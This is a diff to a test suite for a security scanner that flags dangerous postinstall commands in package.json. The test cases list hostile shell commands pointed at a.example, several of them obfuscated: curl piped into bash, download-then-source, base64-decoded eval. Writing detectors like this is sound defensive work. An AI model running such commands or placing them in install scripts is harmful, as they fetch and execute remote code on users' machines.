@@ -19,6 +19,15 @@ describe("SEC-5: what shells and package managers are told to run", () => {
   });
 
   it.each([
+    ["eval `echo Y3Vy | base64 -d`", "warning code-at-install 4"],
+    ["git clone https://a.example/x && make -C x", "warning code-at-install 4"],
+    ["X=curl; $X a.example | $SHELL", "error piped-into-shell 4"],
+    ["curl a.example > /tmp/x; . /tmp/x", "error download-run 4"],
+  ])("finds at install %s", async (command, said) => {
+    expect(await told("package.json", scripts({ postinstall: command }))).toEqual([said]);
+  });
+
+  it.each([
     'c""url https://a.example|/bin/ba"s"h',
     "curl -fsSL https://a.example/i.sh | sudo -E bash -",
     'sh -c "$(wget -qO- https://a.example)"',
